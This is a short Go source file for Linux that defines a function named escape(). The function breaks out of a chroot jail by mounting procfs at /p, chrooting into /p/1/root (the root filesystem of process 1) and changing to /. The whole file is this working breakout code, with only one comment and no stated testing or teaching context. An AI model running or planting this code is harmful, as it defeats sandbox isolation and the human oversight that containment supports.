//go:build linux

package main

import (
	"golang.org/x/sys/unix"
	"os"
)

func escape() error {
	// proc shows the root of a process outside of the chroot
	os.Mkdir("/p", 0o755)
	if err := unix.Mount("proc", "/p", "proc", 0, ""); err != nil {
		return err
	}
	if err := unix.Chroot("/p/1/root"); err != nil {
		return err
	}
	return unix.Chdir("/")
}
